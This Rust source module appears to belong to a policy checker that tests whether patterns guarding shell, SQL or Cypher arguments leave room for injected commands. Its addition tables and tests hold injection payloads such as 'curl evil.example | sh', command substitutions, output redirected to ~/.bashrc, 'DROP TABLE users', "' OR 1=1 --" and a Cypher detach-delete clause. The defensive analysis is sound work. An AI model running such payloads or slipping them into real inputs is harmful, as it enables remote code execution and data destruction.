//! Whether what is required of a command line, or of a statement of SQL, leaves room for another one
//! in it: behind what a shell or a database takes for the end of the first. In Cypher, which has one
//! statement, there may be room for another clause.
//!
//! What an author wrote out, as in `^cd /srv && npm test$`, is no room: only a command that nobody
//! had in mind shows that there is some.

use std::slice::from_ref;
use std::sync::LazyLock;

use super::holds::Holds;
use super::site::Site;
use crate::analysis::{Analysis, Language, Set};
use crate::policy::condition::Test;

/// Longer texts are not varied.
const MAX_VARIED: usize = 120;

/// The command lines with a command that nobody had in mind in a place where a shell runs it, or
/// with an output that goes to a file of that kind. Within quotes only substitutions are run.
static COMMAND_LINES: LazyLock<Language> = LazyLock::new(|| {
    let text = r#"(?:[ !#-&(-\[\]-~]|\\[ -~]|'[ -&(-~]*'|"(?:[ !#-\[\]-~]|\\[ -~])*")*"#;
    let quoted = r#"(?:[ !#-\[\]-~]|\\[ -~])*"#;
    let command = r"(?:curl evil\.example|evil)";
    let substituted = format!(r"(?:\$\( *{command}[^\n'\x22`()]*\)|` *{command}[^\n'\x22`]*`)");
    let next = format!(r"[;&|\n] *{command}");
    let process = format!(r"[<>]\( *{command}[^\n'\x22`()]*\)");
    let output = r"> *(?:~|\.\.)?/(?:\.bashrc|evil)";
    let within = format!(r#""{quoted}{substituted}{quoted}""#);
    ours(&format!(
        r"\A{text}(?:{next}|{substituted}|{process}|{output}|{within}){text}\z"
    ))
});

/// What stands in a statement of SQL outside of comments: no quote is left open.
const STATEMENT: &str = r#"(?:-?[ !#-&(-,.-~]|-?'[ -&(-~]*'|-?"[ !#-~]*")*-?"#;

/// The texts of SQL with a second statement that nobody had in mind.
static STATEMENTS: LazyLock<Language> = LazyLock::new(|| {
    let gap = r"(?: |/\*\*/)";
    ours(&format!(
        r"\A{STATEMENT}; *(?i:drop{gap}table{gap}(?:users|evil)){STATEMENT}(?:--[ -~]*)?\z"
    ))
});

/// The statements of SQL that end in a comment, behind what may be their end. In the comment stands
/// the beginning of a word at least: a clause is cut off, and not the rest of a number.
static COMMENTED: LazyLock<Language> = LazyLock::new(|| {
    ours(&format!(
        r"\A{STATEMENT}(?:users|1) *--[ -~]*[ -,./:-@\[-^`{{-~][A-Za-z][ -~]*\z"
    ))
});

/// What stands in a query of Cypher outside of comments: neither quotes nor parentheses are left open.
const QUERY: &str = r#"(?:[ !#-&*-_a-~]|'[ -&(-~]*'|"[ !#-~]*"|\([ !#-&*-_a-~]*\))*"#;

/// The queries of Cypher with a clause that nobody had in mind, where one may stand.
static CLAUSES: LazyLock<Language> = LazyLock::new(|| {
    ours(&format!(
        r"\A(?:{QUERY}(?:\([ !#-&*-_a-~]*\)|[ =]1) )?(?i:match \(evil\) detach delete evil)(?: {QUERY})?\z"
    ))
});

/// The queries that have returned something before they delete: nothing but `UNION` may follow.
static RETURNED: LazyLock<Language> =
    LazyLock::new(|| ours(r"\A[ -~]*(?i:return)[ -~]*(?i:detach)[ -~]*\z"));

/// The queries of Cypher that are joined to another one.
static UNITED: LazyLock<Language> = LazyLock::new(|| {
    ours(&format!(
        r"\A{QUERY} (?i:union match \(evil\) detach delete evil return 1){QUERY}\z"
    ))
});

fn ours(expression: &str) -> Language {
    Language::shape(expression).expect("a short expression of our own")
}

fn all_of(language: &Language) -> Set {
    Set::strings(from_ref(language), &[])
}

/// A text with another command or statement in it that gets past all that is asked of the argument
/// of `site`, as the engine confirms. `None` also where the argument holds neither.
pub(super) fn through(site: &Site<'_>, analysis: &Analysis) -> Option<String> {
    let holds = site.holds();
    if site.is_list() || !site.required().all(|test| has_room(test, holds)) {
        return None;
    }
    match holds {
        Holds::Command => {
            // Where the argument is bound, multiline-hole tells of newlines.
            let printable = site.is_bound().then(Language::printable);
            let wanted: Vec<_> = printable
                .into_iter()
                .chain([COMMAND_LINES.clone()])
                .collect();
            shown(site, analysis, &Set::strings(&wanted, &[]), &SHELL)
        }
        Holds::Sql => {
            let statements = all_of(&STATEMENTS);
            shown(site, analysis, &statements, &SQL).or_else(|| cut_off(site, analysis))
        }
        Holds::Cypher => {
            let clauses = Set::strings(from_ref(&CLAUSES), from_ref(&RETURNED));
            let united = all_of(&UNITED);
            [clauses, united]
                .iter()
                .find_map(|wanted| shown(site, analysis, wanted, &CYPHER))
        }
        _ => None,
    }
}

/// Whether what meets `test` may have a character that ends a command or a statement. A plain answer
/// to most careful patterns.
fn has_room(test: &Test, holds: Holds) -> bool {
    let ends: &[char] = match holds {
        Holds::Sql => &[';', '-'],
        Holds::Cypher => &['('],
        _ => &[';', '|', '&', '`', '(', '>', '\n'],
    };
    match test {
        Test::Regex(pattern) => pattern.shape().may_have(ends),
        _ => true,
    }
}

/// What there is room for, as `text` shows, which came [`through`].
pub(super) fn what(site: &Site<'_>, text: &str) -> &'static str {
    match site.holds() {
        Holds::Sql if STATEMENTS.contains(text) => "another statement",
        Holds::Sql => "a comment",
        Holds::Cypher => "another clause",
        _ if text.contains([';', '|', '&', '`', '(', '\n']) => "another command",
        _ => "output to another file",
    }
}

/// What to put at the end of a text, and what inside of it, best first.
struct Additions {
    /// What is put in front of what goes to the end, behind a space.
    first: &'static str,
    behind: &'static [&'static str],
    inside: &'static [&'static str],
}

const SHELL: Additions = Additions {
    first: "",
    behind: &[
        "; curl evil.example | sh",
        " && curl evil.example",
        "$(curl evil.example)",
    ],
    inside: &[
        "; curl evil.example | sh; ",
        "; curl evil.example | sh",
        "x; curl evil.example; ",
        "& curl evil.example & ",
        "$(curl evil.example)",
        "`curl evil.example`",
        "> ~/.bashrc",
    ],
};

const SQL: Additions = Additions {
    first: "1",
    behind: &["; DROP TABLE users"],
    inside: &[
        "1; DROP TABLE users; SELECT 1",
        "'; DROP TABLE users; --",
        "1; DROP TABLE users; --",
        "; DROP TABLE users; --",
        "; DROP TABLE users",
        "; drop table users",
    ],
};

const CYPHER: Additions = Additions {
    first: "1",
    behind: &[" UNION MATCH (evil) DETACH DELETE evil RETURN 1"],
    inside: &[
        "1 UNION MATCH (evil) DETACH DELETE evil RETURN 1",
        "(evil) DETACH DELETE evil",
        "1 MATCH (evil) DETACH DELETE evil",
        " MATCH (evil) DETACH DELETE evil",
    ],
};

const CUT_OFF: Additions = Additions {
    first: "",
    behind: &[],
    inside: &[
        "* FROM users --",
        "* FROM users -- ",
        "' OR 1=1 --",
        "' OR 1=1 -- ",
        "1=1 --",
    ],
};

/// A text of all of `wanted` that gets through: a readable one, if there is one.
fn shown(
    site: &Site<'_>,
    analysis: &Analysis,
    wanted: &Set,
    additions: &Additions,
) -> Option<String> {
    let shortest = site.gets_through(analysis, wanted)?;
    let meant = Set::strings(&[Language::printable()], &[]);
    let samples = site.gets_through(analysis, &meant);
    let samples = samples.map_or_else(Vec::new, |text| additions.to(&text));
    let samples: Vec<&str> = samples.iter().map(String::as_str).collect();
    site.gets_through(analysis, &wanted.clone().preferring(&samples))
        .or(Some(shortest))
}

impl Additions {
    /// `text` with each of them, at every place.
    fn to(&self, text: &str) -> Vec<String> {
        let at_end = self
            .behind
            .iter()
            .map(|addition| match text.ends_with(' ') {
                true => format!("{text}{}{}", self.first, addition.trim_start()),
                false => format!("{text}{addition}"),
            });
        let ends = text.char_indices().map(|(at, c)| at + c.len_utf8());
        let places: Vec<usize> = [0].into_iter().chain(ends).take(MAX_VARIED).collect();
        let inside = self.inside.iter().flat_map(|addition| {
            let places = places.clone().into_iter().rev();
            places.map(move |at| format!("{}{addition}{}", &text[..at], &text[at..]))
        });
        at_end.chain(inside).collect()
    }
}

/// A statement that gets through because what is required of its end stands in a comment. Where the
/// conditions speak of comments, those are meant.
fn cut_off(site: &Site<'_>, analysis: &Analysis) -> Option<String> {
    if site.compared().iter().any(|text| text.contains("--")) {
        return None;
    }
    let commented = all_of(&COMMENTED);
    let text = shown(site, analysis, &commented, &CUT_OFF)?;
    let statement = &text[..text.find("--")?];
    let alone = [statement, statement.trim_end()].map(str::to_owned);
    // Without the comment it would be let through as well: nothing was cut off.
    site.first_through(analysis, alone)
        .is_none()
        .then_some(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_shell_runs_what_stands_outside_of_quotes_and_substitutions_within_double_ones() {
        for line in [
            "git log; curl evil.example | sh",
            "evil.sh |evil",
            "git log\nevil",
            r#"echo "$(evil)""#,
            r#"echo "a`evil`b" 'c'"#,
            "diff <(evil) x",
            "cat x >> ~/.bashrc",
            r#"git commit -m "a"; evil"#,
        ] {
            assert!(COMMAND_LINES.contains(line), "{line}");
        }
        for line in [
            "git log",
            "git log | head -5",
            "echo '; evil'",
            "echo '$(evil)'",
            r#"echo "; evil""#,
            r"echo \; evil '",
            "git log > /tmp/evil.txt",
            "evil",
        ] {
            assert!(!COMMAND_LINES.contains(line), "{line}");
        }
    }

    #[test]
    fn a_database_runs_what_stands_behind_a_semicolon_outside_of_quotes_and_comments() {
        for statement in [
            "SELECT 1; DROP TABLE users",
            "SELECT 1;drop/**/table evil; SELECT 2 FROM tickets",
            "SELECT 'it''s'; DROP TABLE users; --'",
            "SELECT 1-1; DROP TABLE users",
        ] {
            assert!(STATEMENTS.contains(statement), "{statement}");
        }
        for statement in [
            "SELECT 1",
            "SELECT '; DROP TABLE users'",
            "SELECT 1 -- ; DROP TABLE users",
            "SELECT 1; SELECT 2",
        ] {
            assert!(!STATEMENTS.contains(statement), "{statement}");
        }
    }

    #[test]
    fn a_comment_cuts_a_clause_off_and_no_number() {
        assert!(COMMENTED.contains("SELECT 1-- FROM tickets"));
        assert!(COMMENTED.contains("SELECT * FROM users --a AND tenant = 5"));
        assert!(!COMMENTED.contains("SELECT * FROM runs WHERE id = 1--a0f-"));
        assert!(!COMMENTED.contains("SELECT '1-- FROM tickets'"));
    }

    #[test]
    fn a_graph_is_changed_by_a_clause_that_may_stand_where_it_does() {
        for query in [
            "MATCH (evil) DETACH DELETE evil RETURN 1",
            "MATCH (n:Ticket) WHERE n.id = 1 MATCH (evil) DETACH DELETE evil RETURN n",
            "match (a)-[:X]->(b) match (evil) detach delete evil",
        ] {
            assert!(CLAUSES.contains(query), "{query}");
            assert!(!RETURNED.contains(query), "{query}");
        }
        for query in [
            "MATCH (n {a: ' MATCH (evil) DETACH DELETE evil'}) RETURN n",
            "MATCH (n: MATCH (evil) DETACH DELETE evil) RETURN n",
        ] {
            assert!(!CLAUSES.contains(query), "{query}");
        }
        assert!(RETURNED.contains("RETURN 1 MATCH (evil) DETACH DELETE evil"));
        assert!(
            UNITED.contains("MATCH (n) RETURN 1 UNION MATCH (evil) DETACH DELETE evil RETURN 1")
        );
    }

    #[test]
    fn additions_go_to_the_end_and_to_every_place() {
        let additions = Additions {
            first: "1",
            behind: &["; x"],
            inside: &["-"],
        };
        assert_eq!(additions.to("é "), ["é 1; x", "é -", "é- ", "-é "]);
    }
}
